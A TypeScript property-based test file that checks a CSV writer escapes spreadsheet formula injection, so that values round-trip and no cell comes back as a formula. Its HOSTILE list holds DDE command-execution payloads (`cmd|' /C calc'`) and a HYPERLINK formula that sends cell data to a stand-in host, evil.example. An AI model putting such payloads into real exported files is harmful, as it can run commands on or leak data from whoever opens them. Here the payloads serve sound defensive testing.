/** T49: what comes back out of our CSV is what went in, and no cell of it is a formula. */
import fc from 'fast-check';
import { csvLine } from '../../../local/audit/csv.ts';
import { anyCharacter } from '../../support/any-text.ts';
import { parseCsv } from './csv-parser.ts';

const LEADS = ['=', '+', '-', '@', '\t', '\r', '\n', '\0', '＝', '＋', '－', '＠', '\u2212'];
const HIDDEN = ['', '\ufeff', ' ', '\u200b', '\u2060', '\u00a0', '\u202e', '\u0007'];
const HOSTILE = [
  ...HIDDEN.flatMap((hidden) => LEADS.map((lead) => `${hidden}${lead}cmd|' /C calc'!A0`)),
  `@SUM(1+1)*cmd|' /C calc'!A0`,
  '=HYPERLINK("https://evil.example?x="&A1,"click")',
  '"=1+1"',
];
const HARMLESS = [
  '',
  'U0ANA',
  'a-b',
  '1=1',
  'said "no", left\r\nfor good',
  'a;b',
  '\ufeffBOM',
  "'x",
];

const isFormula = (cell: string) =>
  /^[\s\p{Cc}\p{Cf}]*[=+\-@\uff1d\uff0b\uff0d\uff20\u2212]/u.test(cell) || /^[\t\r\n]/.test(cell);
const back = (cells: string[]) => parseCsv(csvLine(cells))[0] ?? [];

it.each(HOSTILE.map((cell) => [cell]))('%j comes back behind an apostrophe, or inert', (cell) => {
  const [came = ''] = back([cell, 'next']);
  expect(came === cell || came === `'${cell}`).toBe(true);
  expect(isFormula(came)).toBe(false);
});

it.each(HARMLESS.map((cell) => [cell]))('%j comes back as it is', (cell) => {
  expect(back([cell, 'next'])).toEqual([cell, 'next']);
});

it('holds for any cells: the count, the values, and no formula', () => {
  const cell = fc.oneof(
    fc.string({ unit: anyCharacter }),
    fc.string({ unit: fc.constantFrom(...LEADS, ...HIDDEN, '"', ',', 'a') }),
  );
  fc.assert(
    fc.property(fc.array(cell, { minLength: 2, maxLength: 6 }), (cells) => {
      const came = back(cells);
      expect(came).toHaveLength(cells.length);
      came.forEach((value, index) => {
        const went = (cells[index] ?? '').toWellFormed();
        expect([went, `'${went}`]).toContain(value);
        expect(isFormula(value)).toBe(false);
      });
    }),
    { numRuns: 200 },
  );
});
